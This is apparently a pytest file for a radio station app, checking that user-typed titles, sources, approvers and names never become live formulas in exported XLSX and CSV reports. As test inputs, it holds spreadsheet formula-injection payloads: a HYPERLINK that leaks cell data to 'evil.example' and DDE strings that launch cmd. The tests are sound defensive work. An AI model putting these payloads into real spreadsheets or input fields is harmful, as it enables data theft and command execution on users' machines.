"""Formula injection (issue 17, Medium 5): text a user typed — a title, a source, an approver,
a slot, a hamlet, a relayed station's name — never becomes a live formula in the reports the
district opens in a spreadsheet. Each report is made by the real CLI and read back: the XLSX
with openpyxl (the cell is a string showing the text, no formula anywhere in the sheet), the
CSV as bytes (the text is prefixed with an apostrophe, numbers are untouched)."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from radio.app import open_app
from radio.domain.asrun import AsRunStatus
from radio.domain.relay import Source
from radio.reports.cells import csv_cell, looks_like_formula
from tests.conftest import Radio, make_tone

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
SOURCE = "+cmd|' /C calc'!A0"
APPROVER = "@SUM(1+1)*cmd|' /C calc'!A0"
SLOT = "-2+3+cmd|' /C calc'!A0"
DASH_TITLE = "-5 độ C: rét đậm, rét hại"  # a real title a spreadsheet would compute
RELAY_NAME = "=1+2"
HAMLET = "=Thôn Bản Phố"
HOSTILE = {TITLE, SOURCE, APPROVER, SLOT, DASH_TITLE, RELAY_NAME, HAMLET}
AT = datetime(2026, 12, 2, 6, 0, tzinfo=HCM)


@pytest.fixture(scope="module")
def station(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formula")
    radio = Radio(tmp / "home")
    assert radio("init").exit_code == 0
    first = radio.add(make_tone(tmp / "a.wav", seconds=1.0), approve=False, title=TITLE, source=SOURCE)
    second = radio.add(make_tone(tmp / "b.wav", seconds=1.0, freq=550), approve=False)
    assert radio("library", "approve", first["id"], "--by", APPROVER).exit_code == 0
    assert radio("library", "edit", second["id"], f"--title={DASH_TITLE}").exit_code == 0
    assert radio("library", "approve", second["id"], "--by", "Chủ tịch UBND xã").exit_code == 0
    app = open_app(radio.home)
    try:
        for n, item_id in enumerate((first["id"], second["id"])):
            item, at = app.library.get(item_id), AT + timedelta(minutes=5 * n)
            app.as_run.record(item, status=AsRunStatus.COMPLETED, occurrence_start=AT, scheduled_at=at, slot_name=SLOT,
                              slot_id=None, started_at=at, ended_at=at + timedelta(seconds=300), seconds_played=300.0,
                              reason=None)  # fmt: skip
        source = Source("tinh", RELAY_NAME, "https://stream.example/tinh", topic="chinh-sach")
        app.sources.add(source)
        row = app.as_run.record_relay(source, status=AsRunStatus.PLAYING, occurrence_start=AT + timedelta(hours=1),
                                      scheduled_at=AT + timedelta(hours=1), slot_name=SLOT,
                                      started_at=AT + timedelta(hours=1))  # fmt: skip
        app.as_run.finish(row.id, AsRunStatus.COMPLETED, AT + timedelta(hours=1, minutes=10), 600.0, None)
    finally:
        app.close()
    with sqlite3.connect(radio.home / "radio.db") as con:  # a package as the USB export records it
        con.execute(
            "INSERT INTO usb_packages (id, hamlet_code, hamlet_name, created_at, content_date, profile, playlist, items,"
            " bytes, duration_s, destination) VALUES ('p1', 'thon-1', ?, '2026-12-03 01:00:00.000000',"
            " '2026-12-03', 'standard', NULL, 2, 1000, 600.0, '/media/usb')",
            (HAMLET,),
        )
    con.close()
    return radio


def _report(radio: Radio, path, *args: str):
    result = radio("report", *args, "-o", path)
    assert result.exit_code == 0, result.output
    return path


def _no_formula_anywhere(path) -> None:
    """The sheet's XML holds no formula element: nothing would be computed on opening."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _text_cells(path) -> dict[str, object]:
    ws = load_workbook(path).active
    return {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.mark.parametrize(
    "args, expected",
    [
        (("airtime", "--month", "2026-12", "--by", "item", "--by", "source"), {TITLE, SOURCE, DASH_TITLE}),
        (("airtime", "--month", "2026-12", "--by", "slot"), {SLOT}),
        (("logbook", "--week", "2026-W49"), {TITLE, SOURCE, APPROVER, SLOT, DASH_TITLE}),
        (("programme", "--half", "2026H2"), {RELAY_NAME, HAMLET}),
    ],
    ids=["airtime-items", "airtime-slots", "logbook", "programme"],
)
def test_xlsx_shows_typed_text_as_text(station, tmp_path, args, expected):
    path = _report(station, tmp_path / "r.xlsx", *args)
    _no_formula_anywhere(path)
    cells = _text_cells(path)
    shown = {value for value in cells if any(h in value for h in HOSTILE)}
    assert expected <= {h for h in HOSTILE if any(h in value for value in shown)}, shown
    for value in shown:
        cell = cells[value]
        assert cell.data_type == "s", (value, cell.data_type)
        if looks_like_formula(value):
            assert cell.quotePrefix, value  # stays text when someone edits the cell in Excel
    numbers = [c for row in load_workbook(path).active.iter_rows() for c in row if c.data_type == "n" and c.value]
    assert numbers, "counts and minutes stay numbers"


def test_airtime_csv_prefixes_formula_text_and_leaves_numbers(station, tmp_path):
    path = _report(station, tmp_path / "r.csv", "airtime", "--month", "2026-12", "--by", "item", "--by", "source",
                   "--format", "csv")  # fmt: skip
    data = path.read_bytes().decode("utf-8")
    assert "'" + TITLE.replace('"', '""') in data  # the apostrophe is in the bytes, before the quotes' content
    rows = list(csv.DictReader(io.StringIO(data)))
    titles = {r["title"] for r in rows}
    assert "'" + TITLE in titles and "'" + DASH_TITLE in titles
    assert {r["source"] for r in rows} >= {"'" + SOURCE}
    for row in rows:
        for field, value in row.items():
            assert not looks_like_formula(value), (field, value)
    assert {r["seconds"] for r in rows} >= {"300.0"}  # numbers as they were, no apostrophe


def test_programme_csv_prefixes_relay_and_hamlet_names(station, tmp_path):
    path = _report(station, tmp_path / "p.csv", "programme", "--half", "2026H2", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"))))
    names = {(r["section"], r["name"]) for r in rows}
    assert ("relay", "'" + RELAY_NAME) in names and ("usb", "'" + HAMLET) in names
    (relay,) = [r for r in rows if r["section"] == "relay"]
    assert relay["seconds"] == "600.0"
    assert all(not looks_like_formula(v) for r in rows for v in r.values())


def test_the_rule_treats_text_only():
    assert csv_cell(-3) == -3 and csv_cell(-2.5) == -2.5 and csv_cell(None) is None
    assert csv_cell("-3") == "'-3"  # text that a spreadsheet would compute
    assert csv_cell("Thôn =1") == "Thôn =1" and csv_cell("") == ""
    assert [csv_cell(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]
